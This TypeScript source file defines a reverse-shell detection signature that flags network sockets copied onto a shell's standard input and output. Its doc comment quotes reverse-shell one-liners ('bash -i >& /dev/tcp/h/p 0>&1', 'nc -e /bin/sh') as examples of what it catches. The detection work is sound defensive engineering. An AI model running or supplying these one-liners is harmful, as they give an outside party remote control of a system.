import type { BehaviorEvent } from '../../report/events.js';
import { isRemoteInet } from '../helpers/addresses.js';
import { isBareShell } from '../helpers/command-line.js';
import { EINPROGRESS, isShellOrInterpreter, STDIO_SOCKET_KINDS, StdioSockets, type StdioSocketKind } from '../helpers/stdio-sockets.js';
import { Signature, type EventOf, type SignatureContext, type SignatureInfo } from '../signature.js';

type Kind = StdioSocketKind | 'process.exec';

/**
 * A shell driven over the network: a connection to another machine becomes the standard input and output
 * of a shell or script interpreter, which then reads its commands from the peer and answers to it. Shown
 * directly where the trace has descriptor copies: the socket copied (dup2, dup3, fcntl F_DUPFD) onto stdin
 * and stdout, in the process or a parent it inherited them from, before a shell or interpreter is executed
 * (with or without a command: `sh -c id` answers the peer too), or in a process that already is one (the
 * Python and Perl one-liners, which then relay to a pty). Without copies, a connection held by a process
 * that becomes (or starts) a shell with no script to run stands for "its descriptors are the socket"
 * (`bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh`).
 */
export class ReverseShell extends Signature<Kind> {
  readonly info: SignatureInfo = {
    name: 'reverse_shell',
    description: 'Connects out to another machine and hands the connection to a shell or interpreter as its input and output (reverse shell)',
    severity: 5,
    categories: ['backdoor'],
    ttp: ['T1059.004', 'T1095'],
  };
  override readonly kinds: readonly Kind[] = [...STDIO_SOCKET_KINDS, 'process.exec'];

  readonly #stdio = new StdioSockets();
  /** The remote connection each process holds (its own or inherited). */
  readonly #connections = new Map<number, BehaviorEvent>();

  override onEvent(event: EventOf<Kind>, ctx: SignatureContext): void {
    if (event.kind === 'process.exec') {
      this.#exec(event, ctx);
      return;
    }
    const madeStdio = this.#stdio.observe(event);
    if (event.kind === 'net.connect') this.#connect(event, ctx);
    else if (event.kind === 'process.fork') this.#inherit(event.pid, event.child);
    else if (madeStdio && isShellOrInterpreter(ctx.processes.get(event.pid)?.path ?? '')) this.#markDriven(event.pid, null, ctx);
  }

  #connect(event: EventOf<'net.connect'>, ctx: SignatureContext): void {
    if (!isRemoteInet(event.family, event.address) || (event.ret < 0 && event.ret !== EINPROGRESS)) return;
    this.#connections.set(event.pid, event);
    const process = ctx.processes.get(event.pid);
    if (process && isBareShell(process.path, process.argv)) this.markEvent(event, ctx);
  }

  #inherit(parent: number, child: number): void {
    const connection = this.#connections.get(parent);
    if (connection) this.#connections.set(child, connection);
  }

  #exec(event: EventOf<'process.exec'>, ctx: SignatureContext): void {
    if (event.ret < 0) return;
    const connection = this.#connections.get(event.pid);
    if (connection && isBareShell(event.path, event.argv)) {
      this.markEvent(connection, ctx);
      this.markEvent(event, ctx);
    }
    if (isShellOrInterpreter(event.path)) this.#markDriven(event.pid, event, ctx);
  }

  /** Marks the copies that put a connection on stdin and stdout of a process, if both are one. */
  #markDriven(pid: number, exec: BehaviorEvent | null, ctx: SignatureContext): void {
    if (!this.#stdio.drives(pid, 'connected')) return;
    for (const socket of this.#stdio.of(pid, 'connected').values()) for (const shown of socket.events) this.markEvent(shown, ctx);
    if (exec) this.markEvent(exec, ctx);
  }
}
